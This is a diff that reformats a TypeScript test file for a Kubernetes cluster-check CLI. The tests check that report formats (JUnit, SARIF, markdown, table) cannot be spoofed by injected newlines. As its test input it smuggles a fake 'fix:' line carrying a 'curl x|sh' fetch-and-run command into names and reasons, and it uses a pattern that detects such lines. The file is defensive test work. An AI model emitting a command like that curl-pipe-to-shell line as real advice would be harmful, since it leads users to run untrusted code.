@@ -35,7 +35,13 @@ spec:
     spec: {containers: [{name: web, image: web}]}
 `;
 const snapshot = join(tmp, 'spoof.json');
-writeFileSync(snapshot, JSON.stringify({ kind: 'List', items: overlay(baseObjects('linkerd'), parseObjects(`${yaml(NAME)}---\n${yaml('web2')}`)) }));
+writeFileSync(
+  snapshot,
+  JSON.stringify({
+    kind: 'List',
+    items: overlay(baseObjects('linkerd'), parseObjects(`${yaml(NAME)}---\n${yaml('web2')}`)),
+  }),
+);
 
 const run = async (format: string) => {
   const r = await runCli(['check', '-A', '--snapshot', snapshot, '--only', 'injection-marker-invalid', '-o', format]);
@@ -45,7 +51,11 @@ const run = async (format: string) => {
 /** Lines that start (after indentation) with `fix:` or with the injected command. */
 const spoofed = (text: string) => text.split('\n').filter((l) => /^\s*(fix:|curl )/.test(l));
 
-const xml = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '', isArray: (name) => ['testcase', 'failure'].includes(name) });
+const xml = new XMLParser({
+  ignoreAttributes: false,
+  attributeNamePrefix: '',
+  isArray: (name) => ['testcase', 'failure'].includes(name),
+});
 
 describe('cluster text with newlines adds no line to a report', () => {
   it('-o junit: one real fix: per failure body, one-line message attributes (read with an XML parser)', async () => {
@@ -125,13 +135,21 @@ describe('every reporter, any text in names, reasons, messages and file names', 
       findings: [f],
       suppressed: [{ finding: { ...f, id: 'pod-opted-out' }, reason: `r${t}` }],
       skipped: [{ check: 'webhook-missing', reason: `s${t}` }],
-      coverage: { complete: false, unavailable: [{ kind: 'mutatingwebhookconfigurations', reason: `u${t}`, checks: ['webhook-missing'] }], rbac: [] },
+      coverage: {
+        complete: false,
+        unavailable: [{ kind: 'mutatingwebhookconfigurations', reason: `u${t}`, checks: ['webhook-missing'] }],
+        rbac: [],
+      },
       errors: [`e${t}`],
       summary: { error: 0, warning: 1, info: 0, total: 1, suppressed: 1, checksRun: 1, checksSkipped: 1 },
     };
   };
   const spoof = fc
-    .tuple(fc.string({ maxLength: 6 }), fc.constantFrom('\n', '\r\n', '\r', '\u2028', '\u2029', '\u0085', '\n\n'), fc.string({ maxLength: 6 }))
+    .tuple(
+      fc.string({ maxLength: 6 }),
+      fc.constantFrom('\n', '\r\n', '\r', '\u2028', '\u2029', '\u0085', '\n\n'),
+      fc.string({ maxLength: 6 }),
+    )
     .map(([a, nl, b]) => `${a}${nl}fix:${nl}  curl x|sh${b}`);
 
   it('JUnit, SARIF, markdown and the table: the injected fix: never starts a line of its own', () => {
@@ -155,7 +173,9 @@ describe('every reporter, any text in names, reasons, messages and file names', 
         ];
         const lines = (text: string) => text.replace(/\u2028|\u2029|\u0085|\r/g, '\n');
         for (const text of [...texts, ...sarifTexts, markdown(result(t), meta)])
-          expect(spoofed(lines(text)).filter((l) => l.trim() !== 'fix:' && !l.trim().startsWith('fix: kubectl'))).toEqual([]);
+          expect(
+            spoofed(lines(text)).filter((l) => l.trim() !== 'fix:' && !l.trim().startsWith('fix: kubectl')),
+          ).toEqual([]);
         // The table wraps prose to the terminal: a wrapped line may start with any word of it, never with `fix:`.
         for (const text of [table(result(t), meta), wide(result(t), meta)])
           expect(
@@ -201,8 +221,13 @@ describe('the table never wraps prose into a fix: line', () => {
           coverage: { complete: true, unavailable: [], rbac: [] },
           summary: { error: 0, warning: 1, info: 0, total: 1, suppressed: 0, checksRun: 1, checksSkipped: 0 },
         } satisfies RunResult;
-        for (const out of [table(r, { version: '9', color: false, width }), wide(r, { version: '9', color: false, width })])
-          expect(out.split('\n').filter((l) => /^\s*fix:/.test(l))).toEqual(['  fix: kubectl rollout restart deployment/web -n shop']);
+        for (const out of [
+          table(r, { version: '9', color: false, width }),
+          wide(r, { version: '9', color: false, width }),
+        ])
+          expect(out.split('\n').filter((l) => /^\s*fix:/.test(l))).toEqual([
+            '  fix: kubectl rollout restart deployment/web -n shop',
+          ]);
       }),
       { seed: 6, numRuns: 200 },
     );
